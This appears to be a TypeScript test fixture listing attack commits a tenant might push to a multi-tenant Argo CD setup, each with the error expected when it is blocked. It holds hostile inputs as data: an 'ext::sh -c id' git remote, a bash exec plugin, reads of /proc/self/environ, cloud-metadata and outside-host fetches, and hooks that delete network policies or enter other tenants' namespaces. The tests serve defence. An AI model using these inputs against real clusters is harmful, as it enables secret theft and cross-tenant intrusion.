import { configMap, files, notIts, object, outside, type ForbiddenCommit, type Stolen } from "./commitParts";
import { own, victim } from "./identities";

const argo = "argoproj.io/v1alpha1";
/** How the folder says in what way Argo CD is to render it. */
const parameters = ".argocd-source.yaml";

/** Beside a hook: Argo CD runs hooks only where there is something to apply. */
const change = { "change.yaml": object("v1", "ConfigMap", { metadata: { name: "change" } }) };

/** Something of Argo CD's own kinds. */
const argocdObject = (kind: string, namespace: string, spec: object): unknown =>
  object(argo, kind, { metadata: { name: "attack", namespace }, spec });

/** An attack that is one by what Argo CD makes of it. */
const rendered = (
  what: string,
  said: RegExp,
  content: Pick<ForbiddenCommit, "files" | "beside" | "kustomization">,
): ForbiddenCommit => ({ what, ...content, because: { argocd: said } });

/** A ConfigMap of what the repo server gets from an address. */
const fetching = (what: string, url: string): ForbiddenCommit =>
  rendered(what, /connection refused/, {
    kustomization: { configMapGenerator: [{ name: "attack", files: [`stolen=${url}`] }] },
  });

/** A repository to build on. */
const base = (what: string, url: string, said: RegExp): ForbiddenCommit =>
  rendered(what, said, { kustomization: { resources: [url] } });

/** The folder as a chart, rendered as it says itself. */
const chart = (
  what: string,
  said: RegExp,
  helm: object,
  dependencies: readonly object[] = [],
): ForbiddenCommit =>
  rendered(what, said, {
    beside: {
      [parameters]: { helm },
      "Chart.yaml": { apiVersion: "v2", name: "attack", version: "0.1.0", dependencies },
      "templates/attack.yaml": object("v1", "ConfigMap", { data: { stolen: "{{ .Values.stolen }}" } }),
    },
  });

/** Something for a namespace of Argo CD's, or of its kinds, which an environment without it hasn't. */
const besides = (what: string, content: unknown): ForbiddenCommit => ({
  ...outside(what, content),
  because: { argocd: notIts.argocd },
});

/** What Argo CD could be brought to, and Flux not. */
export function argocdCommits(stolen: Stolen): readonly ForbiddenCommit[] {
  const project = { project: "team-green", source: { repoURL: stolen.repository, path: "." } };
  const destination = { server: "https://kubernetes.default.svc", namespace: victim };
  return [
    besides("write into Argo CD's namespace", configMap("argocd")),
    besides("add an Application", argocdObject("Application", "argocd", { ...project, destination })),
    besides(
      "add an Application in its own namespace",
      argocdObject("Application", own, { ...project, destination }),
    ),
    besides(
      "make a project",
      argocdObject("AppProject", "argocd", { sourceRepos: ["*"], destinations: [{}] }),
    ),
    besides("have Applications made", argocdObject("ApplicationSet", "argocd", { generators: [] })),
    besides("change its own Application", {
      ...(argocdObject("Application", "argocd", { ...project, destination }) as object),
      metadata: { name: "team-blue", namespace: "argocd" },
    }),
    base(
      "build on a base from elsewhere",
      "https://github.com/stefanprodan/podinfo//kustomize",
      /unable|fail/i,
    ),
    base(
      "build on another tenant's repository",
      `${stolen.repository}//environments`,
      /denied|not authorized|not exist/i,
    ),
    base("build on what a program gives", "ext::sh -c id//x", /no such file|fail|unable/i),
    fetching("list what Flux keeps of another tenant", `${stolen.artifacts}/`),
    fetching("read what Flux keeps of another tenant", stolen.byAddress),
    fetching("ask the repo server about itself", "http://127.0.0.1:8084/metrics"),
    fetching("ask the cloud who the node is", "http://169.254.169.254/latest/meta-data/"),
    fetching("ask somebody outside", "https://192.0.2.1/"),
    rendered("have a chart inflated", /--enable-helm/, {
      kustomization: { helmCharts: [{ name: "podinfo", repo: "https://192.0.2.1", version: "1.0.0" }] },
    }),
    rendered("have a program started", /plugin|exec|function/i, {
      beside: {
        "program.yaml": {
          apiVersion: "attack/v1",
          kind: "Program",
          metadata: {
            name: "attack",
            annotations: { "config.kubernetes.io/function": "exec: { path: /usr/bin/bash }" },
          },
        },
      },
      kustomization: { generators: ["program.yaml"] },
    }),
    rendered("have a link lead out of it", /out.of.bounds/i, {
      beside: { "link.txt": "->/proc/self/environ" },
    }),
    rendered("say that it goes to another tenant's namespace", notIts.argocd, {
      beside: { [parameters]: { kustomize: { namespace: victim } } },
    }),
    rendered("name a plugin that renders it", /plugin/i, {
      beside: { [parameters]: { plugin: { name: "sh" } } },
    }),
    chart(
      "have a file of the repo server among its values",
      /<path to cached source>\/proc\/self\/environ: no such file/,
      {
        valueFiles: ["/proc/self/environ"],
      },
    ),
    chart(
      "have a file of the repo server as a parameter",
      /outside|security|not.*(allowed|within)|resolved/i,
      {
        fileParameters: [{ name: "stolen", path: "../../../../proc/self/environ" }],
      },
    ),
    chart("have values fetched", /refused|unreachable|no route|denied|proxyconnect|not allowed/i, {
      valueFiles: ["http://192.0.2.1/values.yaml"],
    }),
    chart(
      "have a chart fetched that it depends on",
      /refused|unreachable|no route|denied|proxyconnect|not permitted/i,
      { releaseName: "attack" },
      [{ name: "podinfo", version: "1.0.0", repository: "https://192.0.2.1" }],
    ),
    rendered("have the platform's network policy deleted by a hook", /is the platform's: leave it as it is/, {
      files: {
        ...files(
          object("networking.k8s.io/v1", "NetworkPolicy", {
            metadata: {
              name: "terp",
              annotations: {
                "argocd.argoproj.io/hook": "PreSync",
                "argocd.argoproj.io/hook-delete-policy": "BeforeHookCreation",
              },
            },
            spec: { podSelector: { matchLabels: { app: "none" } } },
          }),
        ),
        ...change,
      },
    }),
    rendered("replace the platform's network policy", /is the platform's: leave it as it is|has to name/, {
      files: files(
        object("networking.k8s.io/v1", "NetworkPolicy", {
          metadata: {
            name: "terp",
            annotations: { "argocd.argoproj.io/sync-options": "Replace=true,Force=true" },
          },
          spec: { podSelector: { matchLabels: { app: "none" } } },
        }),
      ),
    }),
    rendered("run a hook as its reconciler", /reconciler/, {
      files: {
        ...files(
          object("batch/v1", "Job", {
            metadata: { name: "attack", annotations: { "argocd.argoproj.io/hook": "PreSync" } },
            spec: {
              template: {
                spec: {
                  serviceAccountName: "reconciler",
                  restartPolicy: "Never",
                  containers: [{ name: "a", image: "x:1" }],
                },
              },
            },
          }),
        ),
        ...change,
      },
    }),
    rendered("have a hook write into another tenant's namespace", notIts.argocd, {
      files: {
        ...files(
          object("v1", "ConfigMap", {
            metadata: {
              name: "attack",
              namespace: victim,
              annotations: { "argocd.argoproj.io/hook": "PostSync" },
            },
          }),
        ),
        ...change,
      },
      kustomization: { namespace: undefined },
    }),
  ];
}
